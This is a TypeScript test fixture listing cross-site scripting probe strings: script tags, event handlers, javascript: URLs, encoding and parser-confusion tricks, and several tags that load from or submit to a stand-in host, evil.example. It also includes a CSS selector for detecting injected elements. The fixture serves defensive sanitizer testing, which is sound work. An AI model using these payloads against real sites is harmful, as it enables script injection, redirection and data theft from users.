/** What somebody might type, or a document hold, to have a browser do something. */

/** Each would show a dialog, load something, or leave an element that is none of ours. */
export const HOSTILE = [
  "<script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover='alert(1)",
  "javascript:alert(1)",
  '<a href="javascript:alert(1)">x</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=data:text/html,<script>alert(1)</script>></object>",
  "<embed src=//evil.example/x>",
  "<link rel=stylesheet href=//evil.example/x>",
  "<style>*{background:url(//evil.example/x)}</style>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=//evil.example/>",
  "<form action=//evil.example><button>x</button></form>",
  "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><script>alert(1)</script>-->",
  "]]><script>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "$'{alert(1)}{{constructor.constructor('alert(1)')()}}",
  "＜script＞alert(1)＜/script＞",
  "<ſcript>alert(1)</ſcript>",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "<script\u0000>alert(1)</script>",
  "\u202e<script>alert(1)</script>\u2066",
  "<img src=x onerror=alert(1)//\u2028",
  "<x contenteditable onblur=alert(1) tabindex=0 autofocus>",
  "\ud800<script>alert(1)</script>",
] as const;

/** Elements that no page of ours has. */
export const FOREIGN =
  "script:not([src]), iframe, object, embed, svg, math, base, style, [onerror], [onload], [onfocus]";
